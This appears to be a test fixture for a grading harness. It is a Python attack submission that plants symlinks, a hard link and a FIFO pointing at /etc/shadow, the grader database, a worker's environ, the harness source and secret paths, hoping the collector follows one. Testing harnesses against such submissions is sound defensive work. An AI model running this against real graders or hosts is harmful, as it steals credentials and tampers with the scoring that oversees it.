# Attack: plant symlinks, a hard link, a FIFO and a device-looking file in the working directory, pointing at
# host files (the database, the secret files, /etc/shadow, the outcome pipe), hoping the worker follows one
# when it collects results. Then train normally.
import json
import os

targets = {"grader.db": "__REPO__/instance/grader.db", "shadow": "/etc/shadow",
           "outcome.json": "/proc/self/fd/3", "root": "/", "worker_environ": "/proc/__WORKER_PID__/environ",
           "submission_link.py": "/opt/harness/harness.py", "loop": "loop"}
for i, path in enumerate(json.loads('__SECRET_PATHS__') + json.loads('__MARKER_PATHS__')):
    targets[f"host{i}"] = path
for name, target in targets.items():
    os.symlink(target, name)
try:
    os.link("/opt/harness/harness.py", "harness_hardlink.py")
except OSError as exc:
    print("BLOCKED hardlink", exc.errno, flush=True)
os.mkfifo("fifo")
for name in ("stdout", "stderr", "outcome", "result.json", "report.json"):
    try:
        os.symlink(json.loads('__MARKER_PATHS__')[0], name)
    except FileExistsError:
        pass
print("PLANTED", sorted(os.listdir(".")), flush=True)
#@train
